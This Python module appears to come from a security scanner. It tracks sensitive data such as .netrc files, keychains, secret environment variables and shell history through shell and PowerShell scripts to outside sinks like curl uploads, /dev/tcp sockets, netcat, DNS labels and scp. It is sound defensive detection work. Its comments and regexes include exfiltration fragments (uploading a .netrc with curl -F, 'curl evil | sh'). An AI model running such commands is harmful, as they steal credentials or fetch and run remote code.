"""Data flow in shell and PowerShell scripts: sensitive sources to outside sinks.

Works on folded lines (:mod:`.shell_fold`, :mod:`.ps_fold`), so assembled hosts and
commands are seen as they run. Taint has a *level*:

- ``data``: the contents of a credential file, an agent's secret store, history, ``.env``,
  stored credentials, the whole environment. Any outside sink is a flow.
- ``path``: a variable that only names such a file (``f="$HOME/.netrc"``). It becomes
  ``data`` when a command reads the file (``base64 < "$f"``), and a sink that reads the
  file itself (``curl -F "f=@$f"``, ``scp "$f" host:``) is a flow.
- ``value``: one value picked out of such a file (``jq -r .apiKey ~/.x/config.json``):
  a credential sent to its own API is how clients work; to a collector (a webhook, a paste
  site) or over a covert channel it is a flow.
- ``secret``: a secret environment variable or keychain item: only covert channels (a raw
  socket, DNS labels, mail) count.

Assignments, ``for``/``foreach`` loops, ``set --``, ``$x.Append(…)``, functions that read a
source, and archive/redirect outputs carry the taint on. Statements spread over lines (an
array ``@(`` … ``)``, a pipeline ending in ``|`` or a backtick) are joined first, at most
:data:`_MAX_JOIN` lines.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import lru_cache

from tank.scanner.knowledge import (
    Source,
    collector_host,
    is_local_host,
    secret_command,
    secret_env,
    sensitive_source,
)

__all__ = ["Flow", "flows", "sink_of", "source_of"]

_MAX_JOIN = 60
_MAX_LINES = 5000
_MAX_TAINTED = 200

#: The whole environment, read at once.
_WHOLE_ENV = re.compile(
    r"(?:^|[|;&(`]|\$\()\s*(?:env|printenv|export\s+-p|set)\s*(?:$|[|>)`;])"
    r"|\b(?:Get-ChildItem|gci|dir|ls|Get-Item)\s+env:(?:\\?\*)?(?=\s|$|\||\))"
    r"|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(\)"
    r"|\bos\.environ\b|\bprocess\.env\b(?!\.)",
    re.I,
)
#: Options whose value is a path that is skipped, or used for the connection itself (a
#: client certificate, an identity file, a kubeconfig), not sent anywhere.
_EXCLUDED = re.compile(
    r"(?:--exclude(?:-from)?|--filter|-x|-Exclude|exclude|--cert|--key|--cacert|--netrc-file"
    r"|--kubeconfig|--config|-i|-K|-E|-F|IdentityFile)[=\s]+['\"]?\S*$",
    re.I,
)
_HELP_TEXT = re.compile(r"^\s*(?:echo|printf|Write-(?:Host|Output)|cat\s*<<)\b", re.I)
#: Commands that read a file's contents (a path on their line is read, not just named).
_READERS = re.compile(
    r"\b(?:cat|tar|zip|7z|gzip|base64|xxd|od|cp|install|ditto|scp|rsync|head|tail|strings|openssl|sqlite3"
    r"|jq|yq|grep|egrep|awk|sed|cut|security\s+(?:find|dump|export)-\w+|Get-Content|gc|Copy-Item|Compress-Archive"
    r"|ReadAll(?:Bytes|Text|Lines)|Import-Clixml|Import-Csv|type|source)\b|<\s*\S"
    r"|\s\.\s+\S",
    re.I,
)
_URL_HOST = re.compile(
    r"\b(?:https?|wss?|ftp)://([A-Za-z0-9.-]+|\[[0-9a-fA-F:]+\])(?::\d+)?(/[^\s'\"]*)?", re.I
)
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([\w.$-]+)/\d+")
_DNS = re.compile(
    r"(?:^|[|;&({`])\s*(?:dig|nslookup|host|drill|Resolve-DnsName)\b[^\n;]*"
    r"(?:\$\([^()]*(?:\([^()]*\)[^()]*)*\)|\$\{?[\w:]+\}?)[\w-]*\.",
    re.I,
)
_SINKS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("a raw socket (/dev/tcp)", _DEV_TCP),
    (
        "an HTTP upload",
        re.compile(
            r"\bcurl\b[^\n]*(?:\s-d\b|\s-[a-zA-Z]*d\s|--data\S*|\s-F\b|--form|\s-T\b|--upload-file"
            r"|-X\s*(?:POST|PUT))|\bwget\b[^\n]*--post-(?:data|file)"
            r"|\b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\b[^\n]*"
            r"(?:-Method\s+['\"]?(?:Post|Put|Patch)|-Body\b|-Form\b|-InFile\b)"
            r"|\.Upload(?:String|File|Data|Values)(?:Async)?\s*\(|\bhttp\s+(?:POST|PUT)\b",
            re.I,
        ),
    ),
    (
        "a socket",
        re.compile(
            r"(?:^|[|;&])\s*(?:nc|ncat|netcat|socat|telnet)\s+(?!-z\b)[^|;]*\S"
            r"|Net\.Sockets\.(?:Tcp|Udp)Client|\bSocket\s*\(",
            re.I,
        ),
    ),
    ("DNS names that carry data", _DNS),
    ("mail", re.compile(r"\b(?:sendmail|mailx?|mutt|Send-MailMessage|SmtpClient)\b", re.I)),
    ("a git push", re.compile(r"\bgit\b[^\n|;]*\bpush\b", re.I)),
    (
        "a copy to another machine",
        re.compile(r"\b(?:scp|rsync|sftp)\b[^\n|;]*\s(?:[\w.-]+@)?[\w-]+(?:\.[\w-]+)+:", re.I),
    ),
    # last: data in a plain request's URL or headers (``curl https://x/?d=$secret``)
    (
        "a request",
        re.compile(
            r"(?:^|[|;&({])\s*(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b"
            r"|\.Download(?:String|Data|File)\s*\(",
            re.I,
        ),
    ),
)


@dataclass(frozen=True, slots=True)
class Flow:
    """Sensitive data reaching an outside sink: where it is read and where it leaves."""

    source_line: int
    source: str
    sink_line: int
    sink: str


#: Commands that print stored credentials (the git credential helper, a whole keychain).
_CREDENTIAL_COMMAND = re.compile(
    r"\bgit\s+credential(?:-\w+)?\s+(?:fill|get)\b|\bsecurity\s+dump-keychain\b"
    r"|\bcmdkey\s+/list\b|\bvaultcmd\b|\bGet-StoredCredential\b",
    re.I,
)
_KEYCHAIN_ITEM = re.compile(r"\bsecurity\s+find-(?:generic|internet)-password\b", re.I)
#: ``$GITHUB_TOKEN``, ``${API_KEY}``, ``$env:AZURE_PAT``: a secret variable's value.
_ENV_REF = re.compile(r"\$(?:env:|\{)?([A-Za-z_][A-Za-z0-9_]*)")


DATA, PATH, VALUE, SECRET = "data", "path", "value", "secret"
#: What a word needs to be worth asking the knowledge lists about: a path's separators or
#: the names of stores that are written without one.
_PATHLIKE = re.compile(
    r"[/\\~]|^\.|_history|id_\w|wallet|keychain|Login Data|Cookies|Local State", re.I
)


@lru_cache(maxsize=4096)
def _sensitive(text: str) -> Source | None:
    return sensitive_source(text) if _PATHLIKE.search(text) else None


#: A command that picks one value out of what it reads.
_EXTRACTS = re.compile(
    r"\b(?:jq|yq|grep|egrep|rg|cut|awk|sed\s+-n|Select-String|ConvertFrom-Json\)?\.\w+)\b"
    r"|\)\.\w+|\[['\"]\w+['\"]\]",
    re.I,
)
#: A sink that reads a file named by a variable itself (``-F f=@$p``, ``-T $p``, ``scp $p``).
_SINK_READS_FILE = re.compile(
    r"@['\"]?\$|\s-T\s|--upload-file|--data-binary\s+@|-InFile\b|\bscp\b|\brsync\b"
    r"|\.UploadFile\s*\(|\bsendmail\b[^\n]*<|\bmail\b[^\n]*-a\b",
    re.I,
)


def _level(line: str, *, names_only: bool) -> str:
    """The level of a source read on ``line``: a path, one value picked out, or data."""
    if names_only and not _READERS.search(line):
        return PATH
    return VALUE if _EXTRACTS.search(line) else DATA


def source_of(line: str) -> str | None:
    """What sensitive data ``line`` reads (in words), or None."""
    found = classify_source(line)
    return found[0] if found else None


def classify_source(line: str) -> tuple[str, str] | None:
    """``(what, level)`` of the sensitive source ``line`` reads or names, or None."""
    if _HELP_TEXT.match(line) and not re.search(r"\||\$\(|`", line):
        return None  # printed text naming a path reads nothing
    if _WHOLE_ENV.search(line):
        return "the whole environment", DATA
    command = _CREDENTIAL_COMMAND.search(line)
    if command:
        return f"stored credentials ({command.group(0)})", DATA
    exported = secret_command(line)
    if exported is not None:
        return exported.what, DATA
    if _KEYCHAIN_ITEM.search(line):
        return "a keychain item", SECRET
    for quoted in re.finditer(r"['\"]([^'\"]{3,200})['\"]", line):
        source = _sensitive(quoted.group(1))
        if source and not _EXCLUDED.search(line[: quoted.start()]):
            return f"{quoted.group(1)} ({source.what})", _level(line, names_only=True)
    for token in re.finditer(r"[^\s\"'()@,;|<>]+", line):
        source = _sensitive(token.group(0))
        if source and not _EXCLUDED.search(line[: token.start()]):
            return f"{token.group(0)} ({source.what})", _level(line, names_only=True)
    secret = next((m.group(1) for m in _ENV_REF.finditer(line) if secret_env(m.group(1))), None)
    if secret:
        return f"the secret {secret}", SECRET
    return None


@lru_cache(maxsize=2048)
def sink_of(line: str) -> str | None:
    """What outside sink ``line`` writes to (in words), or None when there is none or every
    host it names is this machine."""
    # a command quoted as an argument (``check "curl evil | sh"``) is text, not a command
    code = re.sub(r"'[^']*'|\"(?:[^\"\\]|\\.)*\"", '""', line)
    for what, pattern in _SINKS:
        found = pattern.search(line if pattern in (_DEV_TCP, _DNS) else code)
        if not found:
            continue
        urls = [(m.group(1), m.group(2) or "") for m in _URL_HOST.finditer(line)]
        hosts = [h for h, _ in urls] + [m.group(1) for m in _DEV_TCP.finditer(line)]
        if hosts and all(is_local_host(h) for h in hosts):
            continue
        named = [c for h, p in urls if (c := collector_host(h, p))]
        outside = [h for h in hosts if not is_local_host(h)]
        return what + (f" ({named[0]})" if named else f" to {outside[0]}" if outside else "")
    return None


def _statements(lines: Iterable[tuple[int, str]]) -> list[tuple[int, str]]:
    out: list[tuple[int, str]] = []
    pending, start, joined = "", 0, 0
    for number, line in lines:
        if len(out) >= _MAX_LINES:
            break
        if not pending:
            start = number
        pending = f"{pending} {line}" if pending else line
        joined += 1
        depth = pending.count("(") - pending.count(")")
        open_end = pending.rstrip().endswith(("|", "`", "\\", "@(", "(", ","))
        if (depth > 0 or open_end) and joined < _MAX_JOIN:
            continue
        out.append((start, pending))
        pending, joined = "", 0
    if pending:
        out.append((start, pending))
    return out


_ASSIGNED = re.compile(
    r"^\s*(?:local\s+|export\s+|readonly\s+)?\$?(\w+)\s*\+?=|\bset\s+--()"
    r"|\bfor(?:each)?\s*\(?\s*\$?(\w+)\s+in\b|\$(\w+)\.(?:Append\w*|Add\w*|Write\w*|Push)\s*\(|\$(\w+)\s*\+=",
    re.I,
)
_OUTPUTS = re.compile(
    r"(?<![0-9&])>>?\s*['\"]?([^\s'\";|&>()]+)|\b(?:tar|zip|7z)\s+-?[a-z]*f?\s+['\"]?([^\s'\"]+)"
    r"|-(?:DestinationPath|OutFile|o)\s+['\"]?([^\s'\"]+)",
    re.I,
)
_FUNCTION = re.compile(r"^\s*(?:function\s+([\w-]+)|([\w-]+)\s*\(\s*\))\s*\{?", re.I)
#: A copy whose last word is where the data lands (``cp SRC "$stage/x"``, ``install -D``).
_COPIES = re.compile(r"\b(?:cp|install|ditto|Copy-Item)\s", re.I)
#: A variable set to a path under another's (``fp="$WORK/.fingerprint"``): filling it fills
#: that folder too, so archiving ``$WORK`` takes what was staged in ``$fp``.
_UNDER = re.compile(r"^\s*(?:local\s+|export\s+|readonly\s+)?(\w+)=['\"]?\$\{?(\w+)\}?/")
_LEADING_VAR = re.compile(r"^['\"]?\$\{?(\w+)\}?(?:/|['\"]?$)")
_FD_OPEN = re.compile(r"\bexec\s+(\d+)\s*<?>\s*['\"]?/dev/(?:tcp|udp)/([\w.-]+)/\d+")


Taint = tuple[int, str, str]  # line, what, level


def _tainted_functions(statements: list[tuple[int, str]]) -> dict[str, Taint]:
    """Functions whose body reads sensitive data: calling one reads it too."""
    out: dict[str, Taint] = {}
    current, depth = "", 0
    for number, line in statements:
        if not current:
            header = _FUNCTION.match(line)
            if header:
                current, depth = (header.group(1) or header.group(2)), 0
        if not current:
            continue
        depth += line.count("{") - line.count("}")
        found = classify_source(line)
        if found and found[1] in (DATA, VALUE) and current not in out:
            out[current] = (number, found[0], found[1])
        if depth <= 0 and ("{" in line or "}" in line):
            current = ""
    return out


_RANK = {DATA: 0, PATH: 1, VALUE: 2, SECRET: 3}


def _origins(
    line: str, number: int, tainted: dict[str, Taint], functions: dict[str, Taint]
) -> list[Taint]:
    found = classify_source(line)
    out: list[Taint] = [(number, found[0], found[1])] if found else []
    for name, where in tainted.items():
        named = re.search(rf"\$(?:\{{|\(\s*\$?)?{re.escape(name)}\b", line, re.I)
        every = name == "@" and re.search(r"\$[@*]", line)
        if named or every or ("/" in name and name in line):
            out.append(where)
    for name, where in functions.items():
        if re.search(rf"(?<![\w-]){re.escape(name)}(?![\w-])", line):
            header = _FUNCTION.match(line)
            if not header or (header.group(1) or header.group(2)) != name:
                out.append(where)
    return out


def flows(lines: Iterable[tuple[int, str]]) -> list[Flow]:
    """Flows from sensitive sources to outside sinks over folded ``(number, line)`` pairs."""
    statements = _statements(lines)
    if not any(classify_source(line) for _, line in statements):
        return []  # nothing sensitive is read or named: no flow can start
    functions = _tainted_functions(statements)
    tainted: dict[str, Taint] = {}
    fds: set[str] = set()
    out: list[Flow] = []
    under: dict[str, str] = {}  # variable -> the variable whose folder holds it
    for number, line in statements:
        nested = _UNDER.match(line)
        if nested and nested.group(1) != nested.group(2) and len(under) < _MAX_TAINTED:
            under[nested.group(1)] = nested.group(2)
        opened = _FD_OPEN.search(line)
        if opened and not is_local_host(opened.group(2)):
            fds.add(opened.group(1))
        origins = _origins(line, number, tainted, functions)
        if not origins:
            continue
        # a path named here and read here is data (or one value picked out of it)
        origins = [
            (o[0], o[1], _level(line, names_only=False))
            if o[2] == PATH and _READERS.search(line)
            else o
            for o in origins
        ]
        origin = min(origins, key=lambda o: _RANK[o[2]])
        for match in _ASSIGNED.finditer(line):
            assigned = next((g for g in match.groups() if g is not None), None)
            if assigned is not None and len(tainted) < _MAX_TAINTED:
                tainted.setdefault(assigned or "@", origin)
        if origin[2] in (DATA, VALUE):
            targets = [next((g for g in m.groups() if g), "") for m in _OUTPUTS.finditer(line)]
            if origin[2] == DATA and _COPIES.search(line) and not sink_of(line):
                targets.append(_last_word(line))
            for target in targets:
                if "/" in target and not target.startswith("/dev/") and len(tainted) < _MAX_TAINTED:
                    tainted.setdefault(target, (origin[0], origin[1], DATA))
                for folder in _folders(target, under):
                    if len(tainted) < _MAX_TAINTED:
                        tainted.setdefault(folder, (origin[0], origin[1], DATA))
        sink = sink_of(line)
        if sink is None and any(re.search(rf">&\s*{fd}\b", line) for fd in fds):
            sink = "a raw socket (/dev/tcp)"
        if sink is not None and _leaves(origin[2], sink, line):
            out.append(Flow(origin[0], origin[1], number, sink))
    return out


def _last_word(line: str) -> str:
    """The destination of the copy on ``line``: its last word, redirections aside."""
    for part in re.split(r"\|\||&&|;|\|", line):
        if _COPIES.search(part):
            words = [w for w in part.split() if not re.match(r"\d?>", w)]
            return words[-1] if len(words) > 2 else ""
    return ""


def _folders(target: str, under: dict[str, str]) -> list[str]:
    """The variables whose folders ``target`` (``"$fp/runner/x"``, ``"$tarball"``) is in:
    its leading variable and those it was set under, a few levels up."""
    found = _LEADING_VAR.match(target)
    out: list[str] = []
    name = found.group(1) if found else None
    while name is not None and name not in out and len(out) < 4:
        out.append(name)
        name = under.get(name)
    return out


def _leaves(level: str, sink: str, line: str) -> bool:
    """Whether data of ``level`` reaching ``sink`` on ``line`` is a flow (see the module
    docstring): a credential sent to its own API is how clients work."""
    covert = sink.startswith(("a raw socket", "a socket", "DNS", "mail"))
    if level == DATA:
        return True
    if level == PATH:
        return bool(_SINK_READS_FILE.search(line))
    if level == VALUE:
        return covert or "(" in sink
    return covert
